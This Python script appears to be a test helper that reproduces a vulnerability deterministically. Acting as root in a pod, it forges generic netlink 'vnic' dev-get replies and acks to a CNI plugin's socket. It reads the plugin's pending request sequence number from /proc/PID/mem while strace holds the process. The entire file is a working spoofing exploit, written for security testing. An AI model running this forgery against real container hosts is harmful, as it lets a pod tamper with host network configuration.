#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""cni_forge.py ID IFNAME SECONDS

What root in a pod can do to a CNI plugin whose generic netlink socket was
opened in the pod's netns: unicast to that socket's port (the plugin's
pid: a process' first netlink socket gets it) a forged vnic dev-get reply
naming vnic ID as IFNAME, and its ack. A real attacker guesses the
sequence number (time(NULL) plus a count); to be deterministic, this one
waits until the test's strace holds the plugin at the entry of the
sendto() of its vnic request and reads the request's sequence number from
its memory, so that the forgery is queued before the kernel's reply.
Gives up after SECONDS. Prints how many datagrams the kernel accepted.
"""
import os
import socket
import struct
import sys
import time

NETLINK_GENERIC = 16
NLMSG_ERROR = 2
NLM_F_REQUEST = 1
NLM_F_CAPPED = 0x100
GENL_ID_CTRL = 0x10
CTRL_CMD_GETFAMILY = 3
CTRL_ATTR_FAMILY_ID = 1
CTRL_ATTR_FAMILY_NAME = 2
VNIC_CMD_DEV_GET = 1
VNIC_A_DEV_ID = 1
VNIC_A_DEV_NAME = 3


def attr(atype, payload):
    a = struct.pack("HH", 4 + len(payload), atype) + payload
    return a + b"\0" * (-len(a) % 4)


def msg(mtype, flags, seq, port, payload):
    return struct.pack("IHHII", 16 + len(payload), mtype, flags, seq,
                       port) + payload


def family_id(sock):
    req = msg(GENL_ID_CTRL, NLM_F_REQUEST, 1, 0,
              struct.pack("BBH", CTRL_CMD_GETFAMILY, 1, 0) +
              attr(CTRL_ATTR_FAMILY_NAME, b"vnic\0"))
    sock.sendto(req, (0, 0))
    data = sock.recv(65536)
    off = 16 + 4
    while off + 4 <= len(data):
        alen, atype = struct.unpack_from("HH", data, off)
        if atype == CTRL_ATTR_FAMILY_ID:
            return struct.unpack_from("H", data, off + 4)[0]
        off += (alen + 3) & ~3
    sys.exit("cni_forge: no vnic family")


def plugin_pid():
    for p in os.listdir("/proc"):
        if not p.isdigit():
            continue
        try:
            if os.readlink(f"/proc/{p}/exe").endswith("/cni/vnic"):
                return int(p)
        except OSError:
            pass
    return 0


def held_request(pid, fam):
    """The nlmsghdr (len, type, flags, seq, port) of the vnic family
    request @pid is about to send, if it is held at the entry of sendto."""
    try:
        with open(f"/proc/{pid}/status") as f:
            if "\nState:\tt" not in f.read():
                return None
        with open(f"/proc/{pid}/syscall") as f:
            args = f.read().split()
        if args[0] != "44":
            return None
        with open(f"/proc/{pid}/mem", "rb") as f:
            f.seek(int(args[2], 16))
            hdr = struct.unpack("IHHII", f.read(16))
    except (OSError, IndexError, ValueError, struct.error):
        return None
    return hdr if hdr[1] == fam else None


def main():
    vid, ifname, secs = int(sys.argv[1]), sys.argv[2], float(sys.argv[3])
    sock = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_GENERIC)
    sock.bind((0, 0))
    fam = family_id(sock)
    end = time.monotonic() + secs
    port = 0
    req = None
    while time.monotonic() < end and not req:
        port = port or plugin_pid()
        req = port and held_request(port, fam)
        time.sleep(0.02)
    if not req:
        print(0)
        return
    seq = req[3]
    reply = msg(fam, 0, seq, port,
                struct.pack("BBH", VNIC_CMD_DEV_GET, 1, 0) +
                attr(VNIC_A_DEV_ID, struct.pack("I", vid)) +
                attr(VNIC_A_DEV_NAME, ifname.encode() + b"\0"))
    ack = msg(NLMSG_ERROR, NLM_F_CAPPED, seq, port,
              struct.pack("i", 0) + struct.pack("IHHII", 16, fam, 5, seq, port))
    try:
        sock.sendto(reply + ack, socket.MSG_DONTWAIT, (port, 0))
        print(1)
    except OSError as e:
        print(f"0 ({e.strerror})")


if __name__ == "__main__":
    main()
